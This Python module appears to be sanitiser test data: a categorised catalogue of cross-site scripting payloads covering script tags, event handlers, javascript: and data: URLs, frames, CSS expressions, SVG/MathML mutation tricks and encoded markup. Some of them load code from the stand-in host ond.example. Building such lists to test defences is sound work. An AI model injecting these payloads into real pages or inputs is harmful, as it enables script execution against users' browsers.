# ruff: noqa: E501 - attacks are as long as they are
"""Ways in which a text may try to run code, by the categories of the well-known public lists (OWASP's filter evasion
cheat sheet, the HTML5 security cheat sheet, the mutation attacks published since). The spellings are ours; every one
tries to set off `alarm()`.
"""

SCRIPTS = r"""
<script>alarm()</script>
<SCRIPT>alarm()</SCRIPT>
<ScRiPt>alarm()</sCrIpT>
<script src=https://ond.example/x.js></script>
<script src="//ond.example/x.js"></script>
<script/src="data:text/javascript,alarm()"></script>
<script	type="text/javascript">alarm()</script>
<script type=module>alarm()</script>
<script async defer>alarm()</script>
<script>/**/alarm()//</script>
<script><!--
alarm()
//--></script>
<scr<script>ipt>alarm()</scr</script>ipt>
<<script>alarm();//<</script>
<script>alarm()
<script>alarm()</script
</script><script>alarm()</script>
<script x>alarm()</script y>
<script/xss>alarm()</script>
<sc\0ript>alarm()</sc\0ript>
<script language=vbscript>alarm()</script>
<script for=window event=onload>alarm()</script>
<script>document.body.append(Object.assign(document.createElement('img'),{src:'x',onerror:alarm}))</script>
<!--><script>alarm()</script>-->
<!-- --!><script>alarm()</script>
<!--[if IE]><script>alarm()</script><![endif]-->
<![CDATA[<script>alarm()</script>]]>
<?xml version="1.0"?><script>alarm()</script>
<xml><script>alarm()</script></xml>
<template><script>alarm()</script></template>
"""
HANDLERS = r'''
<img src=x onerror=alarm()>
<img src=x onerror="alarm()">
<img src=x onerror='alarm()'>
<img src=x onerror=`alarm()`>
<img/src=x/onerror=alarm()>
<img src=x	onerror=alarm()>
<img src=x
onerror=alarm()>
<img src=x onerror =alarm()>
<img src=x ONERROR=alarm()>
<img src=x OnErRoR=alarm()>
<img """><script>alarm()</script>">
<img src="x` `<script>alarm()</script>"` `>
<img src onerror=alarm()>
<img srcset=x onerror=alarm()>
<img src=x onerror=&#97;larm()>
<img src=x onerror="&#x61;&#x6c;&#x61;&#x72;&#x6d;()">
<img src=x onerror=eval(atob('YWxhcm0oKQ=='))>
<img onload=alarm() src="data:image/png;base64,iVBORw0KGgo=">
<image src=x onerror=alarm()>
<body onload=alarm()>
<body onpageshow=alarm()>
<body background=javascript:alarm()>
<p onclick=alarm()>x</p>
<p onmouseover=alarm()>x</p>
<p onpointerenter=alarm()>x</p>
<p onfocus=alarm() tabindex=0 autofocus>x</p>
<p onanimationstart=alarm() style="animation:x 1s">x</p>
<p ontransitionend=alarm() style="transition:1s">x</p>
<p oncontentvisibilityautostatechange=alarm() style="content-visibility:auto">x</p>
<p onbeforecopy=alarm() contenteditable>x</p>
<strong onclick=alarm()>x</strong>
<b/onclick=alarm()>x</b>
<i onmouseenter=alarm()>x</i>
<em onwheel=alarm()>x</em>
<h3 onclick=alarm()>x</h3>
<h4/onmouseover="alarm()">x</h4>
<ul onscroll=alarm()><li onclick=alarm()>x</ul>
<blockquote cite="javascript:alarm()" onclick=alarm()>x</blockquote>
<table onclick=alarm() background="javascript:alarm()"><td onclick=alarm() background="javascript:alarm()">x</table>
<th scope="col&quot; onclick=&quot;alarm()">x</th>
<a href="https://finsam.se" onclick=alarm()>x</a>
<a href=https://finsam.se/"onmouseover=alarm()//>x</a>
<a href="https://finsam.se/' onmouseover='alarm()">x</a>
<br onclick=alarm()>
<caption onclick=alarm()>x</caption>
<sup onclick=alarm()>x</sup>
<input autofocus onfocus=alarm()>
<select autofocus onfocus=alarm()><option>x</select>
<textarea autofocus onfocus=alarm()></textarea>
<keygen autofocus onfocus=alarm()>
<button onclick=alarm()>x</button>
<details open ontoggle=alarm()><summary>x</summary></details>
<dialog open onclose=alarm()><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=alarm()>x</div><button popovertarget=p>x</button>
<marquee onstart=alarm()>x</marquee>
<video src=x onerror=alarm()></video>
<video><source onerror=alarm()></video>
<video poster=javascript:alarm()></video>
<audio src=x onerror=alarm()>
<audio autoplay oncanplay=alarm()><source src="data:audio/wav;base64,UklGRg=="></audio>
<track onerror=alarm() src=x>
<custom-element onfoo=alarm() onclick=alarm()>x</custom-element>
<x onclick=alarm()>x</x>
<x/onpointerrawupdate=alarm()>x
<font color=red onclick=alarm()>x</font>
<font size="&{alarm()}">x</font>
'''
ADDRESSES = r"""
<a href="javascript:alarm()">x</a>
<a href='javascript:alarm()'>x</a>
<a href=javascript:alarm()>x</a>
<a href=`javascript:alarm()`>x</a>
<a href="JaVaScRiPt:alarm()">x</a>
<a href=" javascript:alarm()">x</a>
<a href="&#1;javascript:alarm()">x</a>
<a href="&#14;  javascript:alarm()">x</a>
<a href="java	script:alarm()">x</a>
<a href="java&#x09;script:alarm()">x</a>
<a href="java&#x0A;script:alarm()">x</a>
<a href="java&#x0D;script:alarm()">x</a>
<a href="java&Tab;script:alarm()">x</a>
<a href="java&NewLine;script:alarm()">x</a>
<a href="javascript&colon;alarm()">x</a>
<a href="javascript&#58;alarm()">x</a>
<a href="javascript&#x3a;alarm()">x</a>
<a href="javascript&#0000058alarm()">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alarm()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alarm()">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097script:alarm()">x</a>
<a href="javascript://%0aalarm()">x</a>
<a href="javascript://https://finsam.se/%0aalarm()">x</a>
<a href="javascript:void(0)||alarm()">x</a>
<a href="javascript:'<script>alarm()</script>'">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alarm()">x</a>
<a href="mocha:alarm()">x</a>
<a href="data:text/html,<script>alarm()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+">x</a>
<a href="DATA:image/svg+xml,<svg onload=alarm()>">x</a>
<a href="blob:https://finsam.se/x">x</a>
<a href="filesystem:https://finsam.se/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alarm()">x</a>
<a href="feed:javascript:alarm()">x</a>
<a href="jar:javascript:alarm()!/">x</a>
<a href="about:blank" target=_blank rel=opener>x</a>
<a xlink:href="javascript:alarm()">x</a>
<a href="javascript:alarm()" href="https://finsam.se">x</a>
<a href="https://finsam.se" href="javascript:alarm()">x</a>
<a ping="https://ond.example/" href="https://finsam.se">x</a>
<a href="https://finsam.se" style="behavior:url(#x)">x</a>
<a href="\x6aavascript:alarm()">x</a>
<img src="javascript:alarm()">
<img src="jav&#x09;ascript:alarm()">
<img dynsrc="javascript:alarm()" lowsrc="javascript:alarm()">
<img data-picture="javascript:alarm()" alt="x">
<img data-picture="0b6c2f3e-5d1a-4c7b-9e8f-123456789abc&quot; onerror=&quot;alarm()" alt="x">
<img data-picture="0b6c2f3e-5d1a-4c7b-9e8f-123456789abc" alt="x&quot; onload=&quot;alarm()" src=x onerror=alarm()>
<img data-picture="0b6c2f3e-5d1a-4c7b-9e8f-123456789abc" alt="<svg onload=alarm()>" src="https://ond.example/">
<area href="javascript:alarm()"><map name=x><area shape=rect href="javascript:alarm()"></map>
<form action="javascript:alarm()"><button>x</button></form>
<form><button formaction="javascript:alarm()">x</button></form>
<form><input type=image src=x formaction="javascript:alarm()"></form>
<isindex action="javascript:alarm()" type=image>
<math href="javascript:alarm()">x</math>
<maction actiontype="statusline" xlink:href="javascript:alarm()">x</maction>
"""
EMBEDDED = r"""
<iframe src="javascript:alarm()"></iframe>
<iframe srcdoc="<script>alarm()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alarm()&gt;"></iframe>
<iframe onload=alarm()></iframe>
<frameset onload=alarm()><frame src="javascript:alarm()"></frameset>
<object data="javascript:alarm()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+"></object>
<object type="text/x-scriptlet" data="https://ond.example/x"></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alarm()></object>
<embed src="javascript:alarm()">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alarm()'/>">
<applet code=x.class archive=https://ond.example/x.jar></applet>
<portal src="https://ond.example/" onload=alarm()></portal>
<link rel=stylesheet href="javascript:alarm()">
<link rel=import href="https://ond.example/">
<link rel=prefetch href="https://ond.example/" onload=alarm()>
<meta http-equiv=refresh content="0;url=javascript:alarm()">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alarm()</script>">
<meta http-equiv=Set-Cookie content="x=<script>alarm()</script>">
<base href="javascript:alarm()//">
<base href="https://ond.example/">
<layer src="https://ond.example/x.html"></layer>
<bgsound src="javascript:alarm()">
<noscript><p title="</noscript><img src=x onerror=alarm()>">x</p></noscript>
<noembed><img src="</noembed><img src=x onerror=alarm()>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alarm()>">x</p></noframes>
<plaintext><img src=x onerror=alarm()>
<xmp><p title="</xmp><img src=x onerror=alarm()>">x</p></xmp>
<listing>&lt;img onerror=alarm() src=x&gt;</listing>
<title><img src="</title><img src=x onerror=alarm()>"></title>
<textarea></textarea><img src=x onerror=alarm()>
<slot><slot onslotchange=alarm()></slot></slot>
<div><template shadowrootmode=open><script>alarm()</script></template></div>
"""
STYLES = r"""
<style>@import 'https://ond.example/x.css';</style>
<style>body{background:url("javascript:alarm()")}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alarm()>x</p>
<style><img src="</style><img src=x onerror=alarm()>">
<style></style><img src=x onerror=alarm()>
<p style="background-image:url(javascript:alarm())">x</p>
<p style="width:expression(alarm())">x</p>
<p style="xss:expr/**/ession(alarm())">x</p>
<p style="behavior:url(https://ond.example/x.htc)">x</p>
<p style="-moz-binding:url(https://ond.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:9999" class="btn btn-danger" id="innehall">x</p>
<p style='list-style:url("javascript:alarm()")'><ul><li>x</ul>
<td style="background:url(&#1;javascript:alarm())">x</td>
"""
FOREIGN = r"""
<svg onload=alarm()>
<svg/onload=alarm()//
<svg><script>alarm()</script></svg>
<svg><script href="data:text/javascript,alarm()"/></svg>
<svg><script xlink:href="https://ond.example/x.js"></script></svg>
<svg><a xlink:href="javascript:alarm()"><text y=20>x</text></a></svg>
<svg><animate onbegin=alarm() attributeName=x dur=1s></svg>
<svg><animate xlink:href=#x attributeName=href values="javascript:alarm()"/><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=href to="javascript:alarm()"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alarm()/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alarm()</script>"></iframe></foreignObject></svg>
<svg><image href=x onerror=alarm()></svg>
<svg><style><img src=x onerror=alarm()></style></svg>
<svg><desc><![CDATA[</desc><script>alarm()</script>]]></svg>
<svg><title><style><img src="</style></title><img src=x onerror=alarm()>">
<svg></p><style><a id="</style><img src=x onerror=alarm()>">
<svg><p><style><g title="</style><img src=x onerror=alarm()>">
<math><mtext><table><mglyph><style><img src=x onerror=alarm()></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alarm()&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alarm()></style></annotation-xml></math>
<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=alarm() src=x>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alarm()>
<math xlink:href="javascript:alarm()"><mrow>x</mrow></math>
"""
BROKEN = r"""
<img src="x" onerror="alarm()"
<iframe src=https://ond.example/ <
<p title="<img src=x onerror=alarm()>">x</p>
<p title='"><img src=x onerror=alarm()>'>x</p>
"><script>alarm()</script>
'><img src=x onerror=alarm()>
</p></td></table></div><script>alarm()</script>
<p <script>alarm()</script>>x</p>
<p/<script>alarm()</script>
<a href="https://finsam.se/<data>" onclick=alarm()>x</a><a href="https://finsam.se/</data><img src=x onerror=alarm()>">x</a>
<data value="budget.result" onclick="alarm()"><script>alarm()</script></data>
<data value="x&quot; onmouseover=&quot;alarm()">1</data>
<data value="&lt;img src=x onerror=alarm()&gt;"></data>
<data value="a"><sup data-note="</data><img src=x onerror=alarm()>"></sup></data>
<sup data-note="&lt;img src=x onerror=alarm()&gt;"></sup>
<sup data-note='" onclick="alarm()'></sup>
<sup data-note="</sup><script>alarm()</script>">x</sup>
<sup data-note="javascript:alarm()">x</sup>
<sup data-note="https://ond.example/&quot;onmouseover=&quot;alarm()">x</sup>
<sup data-note="{budget.result}<svg onload=alarm()>"></sup>
<caption><sup data-note="<svg/onload=alarm()>"></sup></caption>
<p class=MsoNormal style='mso-list:l0 level1'><![if !supportLists]><img src=x onerror=alarm()><![endif]>x</p>
<p class=MsoNormal><o:p><script>alarm()</script></o:p></p>
<p class=MsoCaption>Tabell 1 <img src=x onerror=alarm()></p><table><tr><td>x<tr><td onclick=alarm()>y</table>
<div style='mso-element:footnote' id=ftn1><p><a href="#_ftnref1">1</a><img src=x onerror=alarm()></p></div><p>x<a href="#_ftn1">1</a></p>
<p class="Mso" style="mso-element:field-begin">x</p><a class=Mso href="javascript:alarm()">x</a>
<a href="https://finsam.se" class=Mso style="mso-x" onclick=alarm()>x</a>
<table><tr><td colspan=1000000000 rowspan=1000000000>x</table>
&lt;script&gt;alarm()&lt;/script&gt;
&amp;lt;script&amp;gt;alarm()&amp;lt;/script&amp;gt;
+ADw-script+AD4-alarm()+ADw-/script+AD4-
%3Cscript%3Ealarm()%3C/script%3E
¼script¾alarm()¼/script¾
\u003cscript\u003ealarm()\u003c/script\u003e
"""


def _split(text: str) -> list[str]:
    """One attack per line; a line that does not begin one goes on with that above."""
    found: list[str] = []
    for line in text.strip("\n").split("\n"):
        goes_on = found and not line.startswith(("<", "&", "+", "%", "¼", "\\", '"', "'"))
        if goes_on:
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return [each.replace("\\0", "\0") for each in found]


PAYLOADS: list[str] = [
    payload
    for category in (SCRIPTS, HANDLERS, ADDRESSES, EMBEDDED, STYLES, FOREIGN, BROKEN)
    for payload in _split(category)
]
